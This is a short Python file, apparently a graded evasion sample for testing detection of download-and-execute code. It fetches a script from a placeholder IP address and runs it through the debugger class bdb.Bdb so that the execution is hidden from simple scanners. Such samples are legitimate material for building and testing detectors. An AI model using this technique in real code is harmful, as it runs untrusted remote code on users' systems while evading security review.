# evasion: bdb.Bdb (the debugger base class) runs a downloaded string with its run() method
# grade: hard; does: download-exec
import bdb
import urllib.request


class Quiet(bdb.Bdb):
    def user_line(self, frame):
        self.set_continue()


src = urllib.request.urlopen("http://198.51.100.19/task.py", timeout=10).read().decode()
Quiet().run(src)
